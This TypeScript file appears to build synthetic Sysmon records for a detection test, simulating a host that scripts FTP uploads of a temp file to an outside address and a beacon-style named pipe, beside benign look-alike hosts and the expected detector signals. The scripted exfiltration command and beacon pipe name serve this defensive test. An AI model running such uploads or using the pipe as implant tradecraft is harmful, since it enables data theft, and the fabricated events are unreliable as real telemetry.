import type { EventRow } from '../../sql/store.ts';
import { logSources } from '../log-sources.ts';
import {
  pipeUsed,
  processCreated,
  type SysmonHost,
  type SysmonProcess,
} from '../range/sysmon-records.ts';
import { hourMs, minuteMs, secondMs, silence, type StoryWriter } from './story.ts';

const system = 'C:\\Windows\\System32\\';

/** A host whose records come through the collector of the site. */
function windowsHost(name: string, address: string, user: string): SysmonHost {
  return { platform: 'windows', name, address, user, logSourceId: logSources.sysmonWindows.id };
}

function processOf(image: string, number: number): SysmonProcess {
  const guid = `{9A3D5E10-7D31-69A8-${String(number).padStart(4, '0')}-000000000C00}`;
  return { guid, id: 4 * (1000 + number), image };
}

const shell = (number: number, command: string) => ({
  ...processOf(`${system}cmd.exe`, number),
  command,
});

/**
 * What the hosts of other stories tell of themselves: the one that uploads by FTP runs a script for it and opens a pipe of a beacon. Beside it
 * one that does the harmless likes of each, on Windows and on Linux.
 */
export const hostSignals: StoryWriter = ({ endMs }) => {
  const uploader = windowsHost('WS-0452', '10.30.4.52', 'CORP\\s.okoye');
  const twin = windowsHost('WS-0470', '10.30.4.70', 'CORP\\r.haas');
  const linuxTwin: SysmonHost = {
    platform: 'linux',
    name: 'lx-web-44',
    address: '10.20.2.44',
    user: 'deploy',
    logSourceId: logSources.sysmonLinux.id,
  };
  const atMs = endMs - 6 * hourMs - minuteMs;
  const upload = 'C:\\Users\\s.okoye\\AppData\\Local\\Temp\\up.txt';
  const scripted = [0, 7, 14].map((minutes) =>
    processCreated(
      uploader,
      atMs + minutes * minuteMs,
      processOf(`${system}ftp.exe`, 10 + minutes),
      `"${system}ftp.exe" -n -i -s:${upload} 28.77.3.9`,
      shell(1, `cmd.exe /c ftp -s:${upload}`),
    ),
  );
  const beacon = processOf('C:\\Users\\s.okoye\\AppData\\Roaming\\updater.exe', 40);
  const twins: EventRow[] = [
    processCreated(
      twin,
      atMs,
      processOf(`${system}ftp.exe`, 50),
      `"${system}ftp.exe" ftp.example.net`,
      shell(51, 'cmd.exe'),
    ),
    pipeUsed(twin, atMs + secondMs, processOf('System', 52), { id: 17, pipe: '\\srvsvc' }),
    processCreated(
      linuxTwin,
      atMs,
      processOf('/usr/bin/curl', 53),
      'curl -o /tmp/notes.txt ftp://ftp.example.net/pub/notes.txt',
      { ...processOf('/usr/bin/bash', 54), command: '-bash' },
    ),
  ];
  const why = 'Started by hand, made by Windows, fetched: the harmless likes of the signals.';
  return {
    events: [
      ...scripted,
      pipeUsed(uploader, atMs + 2 * minuteMs, beacon, { id: 17, pipe: '\\msagent_4b' }),
      ...twins,
    ],
    flows: [],
    transfers: [],
    expected: {
      silences: [twin, linuxTwin].map(({ address }) => silence('host-signals', address, why)),
      signals: [
        signal(1, 'Command', '-s:C:\\Users\\s.okoye'),
        signal(17, 'Pipe Name', '\\msagent_4b'),
      ],
    },
  };
};

function signal(eventId: number, property: 'Command' | 'Pipe Name', contains: string) {
  const logSourceId = logSources.sysmonWindows.id;
  return { story: 'host-signals', logSourceId, eventId, property, contains };
}
